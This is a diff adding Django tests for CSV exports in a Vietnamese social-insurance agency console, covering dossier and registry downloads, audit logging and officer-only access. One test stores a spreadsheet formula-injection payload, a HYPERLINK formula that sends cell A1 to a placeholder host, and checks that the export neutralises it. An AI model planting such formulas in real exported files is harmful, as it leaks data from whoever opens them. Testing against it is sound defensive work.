@@ -3,6 +3,8 @@ accept / reject with a reason, and the registry page."""
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from datetime import date, timedelta
 
@@ -311,3 +313,57 @@ def test_a_list_longer_than_its_cap_says_so_instead_of_counting_every_row(
     assert "Hơn 2 dòng: hãy tìm kiếm hoặc lọc để xem phần còn lại." in html
     monkeypatch.setattr(views, "LIST_CAP", 3)
     assert "Hơn 3 dòng" not in officer.get("/co-quan/ho-so/", {"queue": "done"}).content.decode()
+
+
+def csv_rows(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
+    text = b"".join(response.streaming_content).decode("utf-8")
+    assert text.startswith("\ufeff")  # Excel reads the Vietnamese right only with it
+    return list(csv.reader(io.StringIO(text[1:])))
+
+
+def test_the_filtered_dossier_list_downloads_whole_as_csv_and_the_export_is_logged(
+        provider, officer, monkeypatch):
+    monkeypatch.setattr(views, "LIST_CAP", 1)  # the file holds every row, not one page's
+    received("BHXH-20261101-000001", "accepted", hours_ago=3, deadline_in=1)
+    received("BHXH-20261101-000002", "rejected", hours_ago=2, deadline_in=1)
+    received("BHXH-20261101-000003", "needs_review", hours_ago=1, deadline_in=1)
+    page = officer.get("/co-quan/ho-so/", {"queue": "done"}).content.decode()
+    assert 'href="/co-quan/ho-so/xuat.csv?queue=done&amp;q="' in page
+    response = officer.get("/co-quan/ho-so/xuat.csv", {"queue": "done"})
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"].startswith('attachment; filename="ho-so-')
+    header, *rows = csv_rows(response)
+    assert header[:4] == ["Số hồ sơ", "Mẫu", "Mã số thuế", "Tên đơn vị"]
+    assert [(r[0], r[9]) for r in rows] == [("BHXH-20261101-000002", "Từ chối"),
+                                            ("BHXH-20261101-000001", "Chấp nhận")]
+    assert rows[0][3] == "Hợp tác xã Đồng Tâm"
+    event = AuditEvent.objects.get(action="console.exported")
+    assert (event.actor, event.target) == ("user:canbo01", "list:dossiers")
+    assert event.details == {"filters": "queue=done&q="}
+
+
+def test_a_name_that_looks_like_a_formula_arrives_in_the_spreadsheet_as_text(provider, officer):
+    dossier = received("BHXH-20261101-000001", "accepted", hours_ago=3, deadline_in=1)
+    Dossier.objects.filter(pk=dossier.pk).update(
+        unit_name='=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")')
+    [_, row] = csv_rows(officer.get("/co-quan/ho-so/xuat.csv", {"queue": "all"}))
+    assert row[3] == '\'=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
+
+
+def test_the_registry_downloads_as_csv_with_its_filters(provider, officer):
+    dossier = received("BHXH-20261101-000001", "accepted", hours_ago=3, deadline_in=1)
+    for tax_code, status in (("0101300843", "active"), ("0101300842", "stopped")):
+        UnitRegistration.objects.create(
+            tax_code=tax_code, name=f"Đơn vị {tax_code}", email="a@b.vn", status=status,
+            provider=IvanProvider.objects.get(), since=date(2026, 1, 5), dossier=dossier)
+    header, *rows = csv_rows(officer.get("/co-quan/don-vi/xuat.csv", {"status": "stopped"}))
+    assert header[0] == "Mã số thuế" and header[-2:] == ["Đăng ký từ ngày", "Đến ngày"]
+    assert rows == [["0101300842", "Đơn vị 0101300842", "", "a@b.vn", "00040", "Đã ngừng",
+                     "05/01/2026", ""]]
+    assert AuditEvent.objects.get(action="console.exported").target == "list:registry"
+
+
+def test_exports_need_the_officer_permission(db, agency):
+    for path in ("/co-quan/ho-so/xuat.csv", "/co-quan/don-vi/xuat.csv"):
+        assert Client().get(path).status_code == 302
+    assert not AuditEvent.objects.filter(action="console.exported").exists()
